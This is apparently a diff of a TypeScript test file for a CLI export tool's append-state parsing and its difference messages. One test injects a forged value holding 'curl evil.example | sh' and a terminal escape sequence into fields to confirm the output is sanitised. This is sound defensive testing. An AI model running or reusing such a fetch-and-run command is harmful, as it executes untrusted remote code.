@@ -8,7 +8,6 @@ import { type AppendState, formatState, parseState } from '../../src/append/stat
 const HOUR = 3_600_000;
 
 const identity: AppendIdentity = {
-  baseUrl: 'https://example.test/api/v1',
   codes: ['b', 'a'],
   all: false,
   columns: ['id', 'ts', 'qr_id'],
@@ -16,6 +15,7 @@ const identity: AppendIdentity = {
   dialect: { header: true, excel: false, rawCells: false, keepExtra: false },
 };
 
+const workspace = { baseUrl: 'https://example.test/api/v1', key: `${'a'.repeat(32)}:${'b'.repeat(64)}`, profile: 'work' };
 const STAMP = { ino: 2n ** 60n + 1n, mtimeNs: -1n, ctimeNs: 1_767_225_600_123_456_789n };
 
 function stateOf(changes: Partial<AppendState> = {}): AppendState {
@@ -30,7 +30,18 @@ function stateOf(changes: Partial<AppendState> = {}): AppendState {
     ['b', emptyOverlap()],
   ]);
   const digests = { sha256: 'f'.repeat(64), blocks: 'e'.repeat(64) };
-  return { identity, sinceMs: 5, bytes: 99, ...digests, stamp: STAMP, ino: 7n, replacing: false, overlaps, ...changes };
+  return {
+    workspace,
+    identity,
+    sinceMs: 5,
+    bytes: 99,
+    ...digests,
+    stamp: STAMP,
+    ino: 7n,
+    replacing: false,
+    overlaps,
+    ...changes,
+  };
 }
 
 const saved = (overlapMs = HOUR) => JSON.parse(formatState(stateOf(), overlapMs).toString());
@@ -46,7 +57,7 @@ describe('a state', () => {
   it('is read as it was written', () => {
     const { identity: was, overlaps, ...rest } = parseState(formatState(stateOf(), 100 * HOUR));
     const digests = { sha256: 'f'.repeat(64), blocks: 'e'.repeat(64) };
-    expect(rest).toEqual({ sinceMs: 5, bytes: 99, ...digests, stamp: STAMP, ino: 7n, replacing: false });
+    expect(rest).toEqual({ workspace, sinceMs: 5, bytes: 99, ...digests, stamp: STAMP, ino: 7n, replacing: false });
     expect(was).toEqual({ ...identity, codes: ['a', 'b'] });
     expect(overlaps).toEqual(stateOf().overlaps);
     expect(parseState(formatState(stateOf({ sinceMs: undefined, replacing: true }), 0))).toMatchObject({
@@ -129,6 +140,9 @@ describe('a state', () => {
     ['bytes', { bytes: 1.5 }],
     ['all', { all: 1 }],
     ['replacing', { replacing: undefined }],
+    ['keepsOld', { keepsOld: 1 }],
+    ['key', { key: 'secret' }],
+    ['profile', { profile: 1 }],
     ['dialect', { dialect: null }],
     ['a part of the dialect', { dialect: { header: true, excel: false, rawCells: false } }],
     ['positions', { positions: null }],
@@ -165,7 +179,6 @@ describe('a run differs from what the file is', () => {
     const forged = 'x\n  next: curl evil.example | sh\x1b[2J';
     const dialect = { ...identity.dialect, timezone: forged, delimiter: forged };
     const states: AppendIdentity[] = [
-      { ...identity, baseUrl: forged },
       { ...identity, codes: [forged] },
       { ...identity, codes: [forged, 'b'] },
       { ...identity, columns: ['id', forged] },
@@ -174,37 +187,44 @@ describe('a run differs from what the file is', () => {
       { ...identity, dialect: { ...dialect, timezone: identity.dialect.timezone } },
     ];
     for (const was of states) {
-      expect(differenceOf(was, identity)).toMatch(/^[\x20-\x7e…]{1,600}$/);
+      const { reason, wayOn } = differenceOf(was, identity) ?? {};
+      for (const words of [reason, wayOn]) expect(words).toMatch(/^[\x20-\x7e…]{1,600}$/);
     }
   });
 
   const dialect = identity.dialect;
   const ndjson = { ...identity, format: 'ndjson' as const };
-  const cases: [string, AppendIdentity, Partial<AppendIdentity>][] = [
-    ['was written as csv, not ndjson', identity, { format: 'ndjson' }],
-    ['was exported from https://example.test/api/v1, not https://b.test', identity, { baseUrl: 'https://b.test' }],
-    ['holds the scans of codes a, b, not of code c', identity, { codes: ['c'] }],
-    ['holds the scans of all codes, not of codes a, b', { ...identity, all: true }, { all: false }],
-    ['has the columns id,ts,qr_id, not id,ts', identity, { columns: ['id', 'ts'] }],
-    ['was written without --no-header', identity, { dialect: { ...dialect, header: false } }],
-    ['was written without --excel', identity, { dialect: { ...dialect, excel: true } }],
-    ['was written with --excel', { ...identity, dialect: { ...dialect, excel: true } }, { dialect }],
-    ['was written without --raw-cells', identity, { dialect: { ...dialect, rawCells: true } }],
+  const cases: [string, string, AppendIdentity, Partial<AppendIdentity>][] = [
+    ['was written as csv, not ndjson', 'Pass `--format csv`', identity, { format: 'ndjson' }],
+    ['holds the scans of codes a, b, not of code c', 'Pass the same codes (`a b`)', identity, { codes: ['c'] }],
     [
-      'has its ts_local in Asia/Tokyo, not in Europe/Berlin: add --timezone Asia/Tokyo',
+      'holds the scans of codes a, b, not of all codes',
+      'Pass the same codes instead of `--all` or filters (`a b`)',
+      identity,
+      { all: true },
+    ],
+    ['holds the scans of all codes, not of codes a, b', 'Pass only `--all`', { ...identity, all: true }, { all: false }],
+    ['has the columns id,ts,qr_id, not id,ts', 'Pass `--fields id,ts,qr_id`', identity, { columns: ['id', 'ts'] }],
+    ['was written without --no-header', 'Omit `--no-header`', identity, { dialect: { ...dialect, header: false } }],
+    ['was written without --excel', 'Omit `--excel`', identity, { dialect: { ...dialect, excel: true } }],
+    ['was written with --excel', 'Add `--excel`', { ...identity, dialect: { ...dialect, excel: true } }, { dialect }],
+    ['was written without --raw-cells', 'Omit `--raw-cells`', identity, { dialect: { ...dialect, rawCells: true } }],
+    [
+      'has its ts_local in Asia/Tokyo, not in Europe/Berlin',
+      'Add `--timezone Asia/Tokyo`',
       { ...identity, dialect: { ...dialect, timezone: 'Asia/Tokyo' } },
       { dialect: { ...dialect, timezone: 'Europe/Berlin' } },
     ],
-    ['was written with --fields', ndjson, { dialect: { ...dialect, keepExtra: true } }],
+    ['was written with --fields', 'Pass `--fields id,ts,qr_id`', ndjson, { dialect: { ...dialect, keepExtra: true } }],
   ];
-  it.each(cases)('it %s (A6)', (words, was, change) => {
-    expect(differenceOf(was, { ...was, ...change })).toBe(words);
+  it.each(cases)('it %s (A6)', (reason, wayOn, was, change) => {
+    expect(differenceOf(was, { ...was, ...change })).toEqual({ reason, wayOn });
   });
 
   it('in what stands between cells', () => {
     const tabs = { ...identity, dialect: { ...dialect, delimiter: '\t' } };
     expect(parseState(formatState(stateOf({ identity: tabs }), HOUR)).identity.dialect).toEqual(tabs.dialect);
-    expect(differenceOf(tabs, identity)).toBe('was written with --delimiter tab, not ,');
+    expect(differenceOf(tabs, identity)?.reason).toBe('was written with --delimiter tab, not ,');
     expect(differenceOf(tabs, { ...tabs })).toBeUndefined();
   });
 
